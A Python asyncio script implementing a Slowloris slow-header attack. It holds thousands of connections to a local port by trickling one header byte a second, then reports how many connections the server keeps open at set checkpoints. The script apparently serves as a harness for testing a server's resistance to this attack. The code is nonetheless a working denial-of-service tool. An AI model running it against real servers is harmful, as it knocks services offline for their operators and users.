#!/usr/bin/env python3
"""Slowloris: holds N connections that never finish their request head.

Each connection sends "GET / HTTP/1.1\\r\\nHost: a\\r\\nX-Slow: " and then one more byte of that
header every second, for ever: the head never ends, and no idle timer fires either. Once every
connection is open it prints "ready ...", then, CHECKPOINTS seconds after that, how many the
server still holds (a connection counts as dropped when the server closes or resets it, or
answers it: a 408 is the server giving up on it), and exits, closing the rest.

usage: slow_clients.py PORT N [CHECKPOINTS...]     (default checkpoints: 60 90)
"""
import asyncio
import collections
import sys
import time

HEAD = b"GET / HTTP/1.1\r\nHost: a\r\nX-Slow: "
OPENING_AT_ONCE = 200  # a burst of SYNs larger than the listen backlog only measures the backlog
CONNECT_TIMEOUT = 10
SLICES = 100  # the byte a second goes out in 100 slices of the connections, not in one burst


class Slow(asyncio.Protocol):
    """One held connection; callbacks, not a task each, so that 10,000 of them cost little CPU."""

    def __init__(self, answers):
        self.answers = answers
        self.transport = None
        self.dropped = False

    def connection_made(self, transport):
        self.transport = transport
        transport.write(HEAD)

    def data_received(self, data):
        if not self.dropped:
            self.answers[data.split(b"\r\n", 1)[0].decode("latin-1")[:40]] += 1
        self.dropped = True

    def connection_lost(self, exc):
        self.dropped = True


async def open_one(loop, port, gate, answers, held, failures):
    async with gate:
        try:
            _, slow = await asyncio.wait_for(
                loop.create_connection(lambda: Slow(answers), "127.0.0.1", port), CONNECT_TIMEOUT)
            held.append(slow)
        except (OSError, asyncio.TimeoutError) as e:
            failures[type(e).__name__] += 1


async def trickle(held):
    tick = 0
    while True:
        await asyncio.sleep(1 / SLICES)
        for slow in held[tick % SLICES::SLICES]:
            if not slow.dropped:
                slow.transport.write(b"a")
        tick += 1


async def main(port, n, checkpoints):
    loop = asyncio.get_running_loop()
    answers, failures, held = collections.Counter(), collections.Counter(), []
    gate = asyncio.Semaphore(OPENING_AT_ONCE)
    trickler = asyncio.ensure_future(trickle(held))
    start = time.monotonic()
    await asyncio.gather(*(open_one(loop, port, gate, answers, held, failures) for _ in range(n)))
    ready = time.monotonic()
    print(f"ready opened {len(held)} of {n} in {ready - start:.1f} s; failed {dict(failures) or 0}", flush=True)
    for at in checkpoints:
        await asyncio.sleep(max(0.0, ready + at - time.monotonic()))
        alive = sum(1 for s in held if not s.dropped)
        print(f"held@{at} {alive} (answers so far: {dict(answers) or 'none'})", flush=True)
    trickler.cancel()
    for slow in held:
        slow.transport.abort()
    print(f"client CPU {time.process_time():.1f} s in {time.monotonic() - start:.0f} s", flush=True)


if __name__ == "__main__":
    if len(sys.argv) < 3:
        sys.exit(__doc__)
    asyncio.run(main(int(sys.argv[1]), int(sys.argv[2]), [int(a) for a in sys.argv[3:]] or [60, 90]))
